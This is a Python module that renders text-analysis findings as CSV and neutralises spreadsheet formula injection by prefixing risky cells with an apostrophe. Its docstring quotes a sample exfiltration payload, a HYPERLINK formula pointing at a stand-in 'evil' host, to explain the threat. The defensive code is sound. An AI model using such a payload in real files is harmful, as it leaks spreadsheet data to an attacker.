"""Reports as CSV: one row per finding, for spreadsheets and scripts.

Columns (`COLUMNS`): the document id, the span's Python code-point offsets, its 1-based line and
column, its page and section (documents: PDF, DOCX, XML; empty for plain text), the spun text, the suggestion, the alternatives joined by " | ", the confidence, the
detector, the list rule (fingerprint findings) and the evidence as compact JSON. A document
without findings gives no row; the header is always written, so an empty batch is still a
valid file with the expected columns.

Formula injection: a spreadsheet opening this file runs any cell that starts with "=", "+",
"-" or "@" as a formula (and some also treat a leading tab or carriage return that way), so a
document containing `=HYPERLINK("http://evil/?"&A1)` would become a live formula on the
reviewer's machine (OWASP "CSV injection"). Every text cell that starts with one of those
characters is written with a leading apostrophe, which spreadsheets read as "this is text".
Cells that already start with an apostrophe get one more, so the guard is reversible:
`unguard_cell(cell)` gives back the exact original text. Numbers are written as numbers.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Mapping
from typing import Any

from unspin.model import Finding, Report
from unspin.report.text import line_column

COLUMNS = ("id", "start", "end", "line", "column", "page", "section", "text", "suggestion", "alternatives",
           "confidence", "detector", "rule", "evidence")
ALTERNATIVES_SEPARATOR = " | "
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_GUARDED = FORMULA_TRIGGERS + ("'",)  # "'" too, so that the guard can be undone exactly


def guard_cell(value: str) -> str:
    """`value` made inert for spreadsheets: a leading apostrophe where it could start a formula."""
    return "'" + value if value.startswith(_GUARDED) else value


def unguard_cell(value: str) -> str:
    """The original text of a cell written by `guard_cell`."""
    return value.removeprefix("'")


def evidence_json(evidence: Mapping[str, Any]) -> str:
    """Evidence as compact, key-sorted JSON (values JSON cannot hold are written as text)."""
    return json.dumps(dict(evidence), ensure_ascii=False, separators=(",", ":"), sort_keys=True, default=str)


def finding_row(report: Report, source: str, finding: Finding) -> list[Any]:
    """One finding as the values of `COLUMNS`, text cells guarded, numbers left as numbers."""
    line, column = line_column(source, finding.start)
    return [
        guard_cell(report.id) if isinstance(report.id, str) else ("" if report.id is None else report.id),
        finding.start, finding.end, line, column,
        (finding.location or {}).get("page", ""), guard_cell(str((finding.location or {}).get("section") or "")),
        guard_cell(finding.text), guard_cell(finding.suggestion),
        guard_cell(ALTERNATIVES_SEPARATOR.join(finding.alternatives)),
        round(float(finding.confidence), 4),
        guard_cell(finding.detector), guard_cell(finding.rule or ""),
        guard_cell(evidence_json(finding.evidence)),
    ]


def finding_rows(reports_and_sources: Iterable[tuple[Report, str]]) -> Iterable[list[Any]]:
    """The rows of every finding of every document, in input order."""
    for report, source in reports_and_sources:
        for finding in report.spans:
            yield finding_row(report, source, finding)


def render_csv(reports_and_sources: Iterable[tuple[Report, str]]) -> str:
    """Every finding of every `(report, source)` pair as CSV text, header first."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")  # RFC 4180, and a cell with "\r" gets quoted
    writer.writerow(COLUMNS)
    writer.writerows(finding_rows(reports_and_sources))
    return buffer.getvalue()
